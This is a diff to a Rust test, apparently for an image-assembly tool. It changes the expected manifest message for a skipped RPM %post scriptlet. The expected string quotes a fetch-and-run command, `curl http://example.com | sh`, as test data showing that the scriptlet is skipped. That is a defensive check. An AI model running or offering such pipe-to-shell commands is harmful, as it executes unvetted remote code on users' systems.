@@ -551,7 +551,7 @@ fn a_recipe_installs_packages_and_the_manifest_tells() {
     assert_eq!(recorded["sha256"], digest.to_string());
     assert_eq!(
         recorded["skipped"][0],
-        "%post of scripted-1.5-1.noarch: `curl http://example.com | sh`"
+        "%post of scripted-1.5-1.noarch: skipped from `curl http://example.com | sh` on"
     );
     let verify = imgasm(&["verify", "out/x.raw", "-f", "imgasm.toml", "--json"]);
     let said: serde_json::Value = serde_json::from_slice(&verify.stdout).unwrap();
